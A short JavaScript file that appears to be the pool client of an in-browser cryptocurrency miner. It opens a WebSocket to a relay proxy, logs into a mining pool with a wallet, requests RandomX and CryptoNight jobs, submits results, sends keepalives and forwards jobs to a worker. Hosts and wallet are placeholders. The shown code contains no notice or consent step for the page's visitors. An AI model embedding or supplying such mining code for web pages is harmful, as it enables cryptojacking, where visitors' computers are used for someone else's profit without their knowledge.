// Client of a proxy that speaks to a pool for the page.
class Connection {
  constructor(proxy, pool, wallet) {
    this.socket = new WebSocket(proxy + '?pool=' + encodeURIComponent(pool));
    this.socket.onopen = () => this.send('login', { login: wallet, pass: 'web', agent: 'web/1', algo: ['rx/0', 'cn/r'] });
    this.socket.onmessage = ({ data }) => this.receive(JSON.parse(data));
    this.id = 1;
  }
  send(method, params) { this.socket.send(JSON.stringify({ id: this.id++, jsonrpc: '2.0', method, params })); }
  receive(message) {
    if (message.result?.job) this.onjob(message.result.job);
    if (message.method === 'job') this.onjob(message.params);
    if (message.result?.status === 'OK') this.accepted = (this.accepted ?? 0) + 1;
  }
  submit({ job_id, nonce, result }) { this.send('submit', { id: this.session, job_id, nonce, result }); }
  keepalive() { setInterval(() => this.send('keepalived', { id: this.session }), 30000); }
}
const connection = new Connection('wss://relay.invalid/ws', 'pool.invalid:3333', 'WALLET-OF-NOBODY');
connection.onjob = (job) => postMessage({ blob: job.blob, target: job.target, seed_hash: job.seed_hash, height: job.height });
